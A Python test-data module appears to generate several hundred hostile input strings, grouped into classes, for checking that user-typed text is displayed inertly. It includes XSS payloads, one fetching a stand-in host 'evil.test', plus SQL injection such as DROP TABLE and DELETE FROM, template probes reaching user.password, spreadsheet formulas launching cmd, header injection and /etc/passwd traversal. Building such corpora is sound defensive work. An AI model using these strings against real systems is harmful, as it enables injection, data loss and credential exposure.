"""Hostile texts, 350 and more, in classes: what somebody may type into any field, to be shown as text and nothing more.

Generated where that can be, so that each class has many; `CLASSES` is class → texts.
"""

import itertools

_CALLS = ["alert(1)", "fetch('//evil.test')", "location='//evil.test'", "top[/al/.source+/ert/.source](1)"]
_TAGS = ["script", "img", "svg", "iframe", "object", "embed", "link", "meta", "base", "form", "style", "math", "template", "body"]  # fmt: skip
_HANDLERS = ["onerror", "onload", "onclick", "onmouseover", "onfocus autofocus", "onanimationstart", "ontoggle"]
_QUOTES = ['"', "'", "`", '">', "'>", "-->", "]]>", "</title>", "</textarea>", "</script>", "</style>", "</pre>"]

CLASSES = {
    "tags": [f"<{tag} src=x data=x href=x>{call}</{tag}>" for tag, call in itertools.product(_TAGS, _CALLS)],
    "handlers": [
        f'{quote}<img src=x {handler}="{call}">'
        for quote, handler, call in itertools.product(["", '"', "'>"], _HANDLERS, _CALLS[:3])
    ],
    "attribute ends": [f"{quote} {handler}=alert(1) x=" for quote, handler in itertools.product(_QUOTES, _HANDLERS[:5])],
    "addresses": [
        f"{scheme}{rest}"
        for scheme, rest in itertools.product(
            ["javascript:", "JaVaScRiPt:", "java\tscript:", "data:text/html,", "vbscript:", "blob:", "//evil.test/", "\\\\evil.test\\"],
            ["alert(1)", "<script>alert(1)</script>", "%0aalert(1)", "x"],
        )
    ],  # fmt: skip
    "templates": [
        f"{left}{inner}{right}"
        for (left, right), inner in itertools.product(
            [("{{", "}}"), ("{%", "%}"), ("{#", "#}"), ("${", "}"), ("#{", "}"), ("<%=", "%>")],
            [" 7*7 ", " config ", " user.password ", " ''.__class__.__mro__ ", " include 'app.py' "],
        )
    ],
    "JSON": ['","admin":true,"z":"', '"}', '{"$ref":"#"}', "\\", '\\"', "\\u0022,\\u0022", "]}", "null", "true", "NaN", "1e999", "[]"],
    "SQL": ["' OR 1=1 --", "'; DROP TABLE person; --", '" OR ""="', "%' OR '1'='1", "_%_", "\\'; --", "1); DELETE FROM log; --", ":path", "%(path)s", "?"],
    "spreadsheets": [f"{sign}{rest}" for sign, rest in itertools.product("=+-@＝＋－＠", ["cmd|' /C calc'!A0", "SUM(1;2)", "HYPERLINK(\"//evil.test\")"])],
    "entities": ["&lt;script&gt;", "&#60;script&#62;", "&#x3c;img&#x3e;", "&amp;amp;", "&NewLine;", "&quot; onload=&quot;", "&copy", "&#0;", "&colon;", "&lt", "&#X3C;b&#X3E;"],
    "bidi and invisible": ["\u202etxt.exe", "\u2066\u2067x\u2069", "a\u200bb", "\u200d\u200c", "\ufeffx", "\u2028line", "\u2029paragraph", "\u00adsoft", "x\u0301" * 20, "\u061c\u200f"],
    "terminals": ["\x1b[2J\x1b[31mred", "\x1b]0;title\x07", "\x07\x08\x7f", "\x9b31m", "line\nline", "tab\there", "return\x0breturn"],
    "scripts of the world": ["שלום עולם", "مرحبا <b>", "日本語テキスト", "Ελληνικά", "हिन्दी", "ภาษาไทย", "🦊👩🏽‍🚀🏳️‍🌈", "İıſßﬁ", "\U0001d49c\U0001d4ce", "Zalgo" + "\u0336\u0489" * 15],
    "long": ["W" * 255, "<" * 255, "&" * 255, '"' * 255, "a " * 127, "\u202e" * 200, "🦊" * 120],
    "headers and paths": ["x\r\nSet-Cookie: a=b", "x\nLocation: //evil.test", "../../etc/passwd", "..\\..\\", "%2e%2e%2f", "/admin", "C:\\x", "file:///etc/passwd", "a\u0000b".replace("\u0000", "%00")],
    "names of ours": ["csrf_token", "__proto__", "constructor", "toString", "null", "undefined", "None", "mm_", "eyJhbGciOiJub25lIn0.e30.", "-----BEGIN PRIVATE KEY-----"],
}  # fmt: skip
TEXTS = list(dict.fromkeys(itertools.chain.from_iterable(CLASSES.values())))


def _together(texts, at_once=6, longest=250):
    """Put texts of different classes into one; each still stands whole in exactly one of them."""
    step = -(-len(texts) // at_once)
    groups = [texts[start::step] for start in range(step)]
    for group in groups:
        line = group[0]
        for text in group[1:]:
            if len(line) + 1 + len(text) > longest:
                yield line
                line = text
            else:
                line = f"{line} {text}"
        yield line


TOGETHER = list(_together(TEXTS))
